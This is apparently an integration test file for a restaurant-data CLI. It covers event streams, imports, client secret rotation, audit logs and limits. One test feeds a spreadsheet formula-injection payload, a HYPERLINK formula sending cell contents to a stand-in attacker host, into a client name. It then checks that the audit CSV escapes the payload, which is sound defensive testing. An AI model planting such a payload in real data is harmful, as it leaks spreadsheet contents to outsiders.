/** Events, imports, clients, limits and the audit log at a terminal, all over HTTP. */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { createClient } from '../../packages/service/src/access/clients.ts';
import { BISTRO, NOW, plainOrder, postOrders } from '../journeys/service.ts';
import { openTrading, TAVERN, type Trading } from './trading.ts';

const GOLDEN = fileURLToPath(new URL('../golden', import.meta.url));

const linesOf = (text: string): Record<string, unknown>[] =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));

describe('a management group at the terminal', () => {
  let trading: Trading;
  let admin: Record<string, string>;
  before(async () => {
    trading = await openTrading();
    const { running } = trading;
    const scopes = ['enterprise-metrics:read', 'ingest:write', 'access:admin'];
    const client = await createClient(running.service.stores.ledger, { group: 'g', scopes }, NOW);
    admin = { DAYPART_CLIENT_ID: client.id, DAYPART_CLIENT_SECRET: client.secret };
  });
  after(() => trading.close());

  it('follows its events, ends after as many as requested, and resumes after one', async () => {
    const { running, token, run, desk, env } = trading;
    const load = (restaurant: string, businessDate: number) =>
      postOrders(running, token, restaurant, [plainOrder({ businessDate })]);
    let began = false;
    // The id that a stream begins with names the present; the events after it are kept.
    const from = await fetch(`${running.service.baseUrl}/events`, { headers: { authorization: `Bearer ${token}` } });
    const reader = from.body?.getReader();
    const [, id = ''] = /^id: (\S+)/m.exec(Buffer.from((await reader?.read())?.value ?? []).toString()) ?? [];
    await reader?.cancel();
    await load(TAVERN, 20260301);
    await load(BISTRO, 20260302);

    const two = await run(['events', '--after', id, '--count', '2']);
    assert.equal(two.code, 0, two.err);
    const [first, second] = linesOf(two.out);
    assert.deepEqual(
      [first?.event, first?.restaurantGuid, first?.businessDates, first?.kind],
      ['loaded', TAVERN, ['20260301'], 'orders'],
    );
    assert.deepEqual([second?.restaurantGuid, second?.businessDates], [BISTRO, ['20260302']]);
    const rest = await run(['events', '--after', String(first?.id), '--count', '1']);
    assert.deepEqual(linesOf(rest.out), [second]);
    const own = await run(['events', '--after', id, '--restaurant', 'bis', '--kind', 'loaded', '--count', '1']);
    assert.deepEqual(linesOf(own.out), [second]);
    const lines = await run(['events', '--after', id, '--count', '2', '--format', 'lines']);
    assert.match(lines.out, /^\d\d:\d\d:\d\d {2}loaded {2}=Tavern {2}orders {2}2026-03-01\n.* {2}Bistro {2}orders/);

    const cut = await desk.run(['events', '--after', id], {
      env,
      watch: (text, signal) => {
        if (began || !text.includes('20260302')) return;
        began = true;
        signal('SIGINT');
      },
    });
    assert.equal(cut.code, 130);
    assert.match(cut.err, new RegExp(`Resume with: daypart events --after ${String(second?.id)}`));
    const unknown = await run(['events', '--after', 'nothing-1', '--count', '1']);
    assert.equal(linesOf(unknown.out)[0]?.event, 'reset');
    assert.equal((await run(['events', '--count', 'x'])).code, 2);
  });

  it('sends an export, which the service reads, and lists the import', async () => {
    const { running, run } = trading;
    const plain = join(GOLDEN, 'plain-day');
    const bad = join(GOLDEN, 'bad-rows');

    const dry = await run(['import', plain, '--restaurant', 'bis', '--url', running.service.baseUrl, '--dry-run']);
    assert.equal(dry.code, 0, dry.err);
    assert.deepEqual(linesOf((await run(['imports', '--format', 'ndjson'])).out), []);
    const checked = await run(['import', plain, '--restaurant', 'bis', '--dry-run', '--json']);
    // Earlier versions sent the files only with this flag.
    const loaded = await run(['import', plain, '--restaurant', 'bis', '--upload', '--json']);
    assert.equal(loaded.code, 0, loaded.err);
    assert.deepEqual({ ...JSON.parse(loaded.out), dryRun: true }, JSON.parse(checked.out));
    const badly = await run(['import', bad, '--restaurant', TAVERN]);
    assert.equal(badly.code, 1);
    assert.match(badly.err, /not everything was read/);

    const [last, before] = linesOf((await run(['imports', '--format', 'ndjson'])).out);
    assert.deepEqual([last?.restaurantGuid, last?.businessDate], [TAVERN, '20260318']);
    assert.deepEqual([before?.restaurantGuid, before?.businessDate], [BISTRO, '20260310']);
    const table = await run(['imports', '--restaurant', 'bis', '--format', 'table']);
    assert.match(
      table.out,
      /^Imported +Restaurant +Date +Orders +Entries +Read\n.*Bistro +2026-03-10 +\d+ +\d+ +all\n$/,
    );
    assert.match((await run(['imports', '--format', 'table'])).out, /=Tavern +2026-03-18 +\d+ +\d+ +\d+ rows not read/);
    assert.match((await run(['imports', '--format', 'csv'])).out, /,20260310,\d+,\d+,true,/);
  });

  it('says which day of an export the service did not take', async () => {
    const { run } = trading;
    const reading = await createClient(
      trading.running.service.stores.ledger,
      { group: 'g', scopes: ['enterprise-metrics:read'] },
      NOW,
    );
    const lacking = await run(['import', join(GOLDEN, 'plain-day'), '--restaurant', BISTRO, '--json'], {
      DAYPART_CLIENT_ID: reading.id,
      DAYPART_CLIENT_SECRET: reading.secret,
    });
    assert.equal(lacking.code, 1);
    const { days, complete } = JSON.parse(lacking.out);
    assert.equal(complete, false);
    assert.match(days[0].problem, /^none of it is loaded: .*ingest:write/);
  });

  it('creates, lists, rotates and revokes clients, which the audit log has', async () => {
    const { run, base } = trading;
    const remote = (...args: string[]) => run([...args, '--url', base], admin);

    const made = await remote('clients', 'create', '--name', 'till', '--scopes', 'enterprise-metrics:read', '--json');
    assert.equal(made.code, 0, made.err);
    const { id, secret, group, scopes } = JSON.parse(made.out);
    assert.deepEqual([group, scopes], ['g', ['enterprise-metrics:read']]);
    const rotated = await remote('clients', 'rotate', id, '--json');
    const next = JSON.parse(rotated.out);
    assert.notEqual(next.secret, secret);
    for (const value of [secret, next.secret]) {
      const seen = await run(['restaurants'], { DAYPART_CLIENT_ID: id, DAYPART_CLIENT_SECRET: value });
      assert.equal(seen.code, 0, seen.err);
    }
    assert.match((await remote('clients', 'rotate', id)).out, /The previous secret is valid until \d{4}-/);
    const first = await run(['restaurants'], { DAYPART_CLIENT_ID: id, DAYPART_CLIENT_SECRET: secret });
    assert.equal(first.code, 3, 'two rotations end the first secret');
    assert.match(
      (await remote('clients', 'list')).out,
      new RegExp(`${id} +g +till +reference +enterprise-metrics:read`),
    );
    assert.match((await remote('clients', 'revoke', id)).out, /^Revoked/);

    const audit = await run(['audit', '--format', 'ndjson'], admin);
    assert.deepEqual(
      linesOf(audit.out).map(({ action }) => action),
      ['client.revoked', 'client.secret_rotated', 'client.secret_rotated', 'client.created'],
    );
    assert.equal(linesOf((await run(['audit', '--last', '3', '--format', 'ndjson'], admin)).out).length, 3);
    assert.match((await run(['audit', '--format', 'table'], admin)).out, /^When +What +Of +By\n.*client\.revoked/);
    const lacking = await run(['audit']);
    assert.deepEqual([lacking.code, /access:admin/.test(lacking.err)], [3, true]);
    const both = await remote('clients', 'list', '--data', '/nowhere');
    assert.deepEqual([both.code, /not both/.test(both.err)], [2, true]);
  });

  it('guards names in the CSV of the audit log against formulas', async () => {
    const { run, base } = trading;
    const name = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
    const made = await run(['clients', 'create', '--name', name, '--url', base, '--json'], admin);
    assert.equal(made.code, 0, made.err);

    const { out } = await run(['audit', '--last', '1', '--format', 'csv'], admin);

    const [, line = ''] = out.split('\r\n');
    assert.match(line, /^\S+Z,client\.created,"'=HYPERLINK\(""http/);
  });

  it('says the remaining quota of limits', async () => {
    const { running, run } = trading;
    assert.match((await run(['limits', '--format', 'table'], admin)).out, /limits nothing/);
    await running.restart({ limits: 'on' });
    const again = { ...admin, DAYPART_URL: running.service.baseUrl };

    const table = await run(['limits', '--format', 'table'], again);

    assert.equal(table.code, 0, table.err);
    assert.match(table.out, /^Limit +Left +Of +Renewed in\n/);
    assert.match(table.out, /retrieval\S* +\d+ +\d+ +\d+ s/);
  });
});
